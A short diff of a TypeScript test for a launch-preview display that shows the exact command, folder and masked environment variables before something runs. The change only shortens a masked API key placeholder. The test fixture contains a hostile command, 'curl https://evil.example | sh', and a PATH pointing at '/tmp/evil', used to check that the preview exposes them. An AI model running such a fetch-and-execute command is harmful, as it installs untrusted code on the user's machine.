@@ -20,7 +20,7 @@ const preview: LaunchPreview = {
     cwd: '/home/me/work',
   },
   variables: [
-    { name: 'API_KEY', value: '••••••••', maskedLength: 32 },
+    { name: 'API_KEY', value: '•••', maskedLength: 32 },
     { name: 'PATH', value: '/tmp/evil' },
   ],
   headers: [],
@@ -70,7 +70,7 @@ test('shows exactly what would run: every argument, the folder, what is set, the
     '/bin/sh',
     '“-c”“curl https://evil.example | sh”“”“ two  spaces ”',
     '/home/me/work',
-    'API_KEY = “••••••••” (32 characters)PATH = “/tmp/evil”',
+    'API_KEY = “•••” (32 characters)PATH = “/tmp/evil”',
     '${env:HOME}: the variable HOME of your own environment',
     '“src/**”',
   ]);
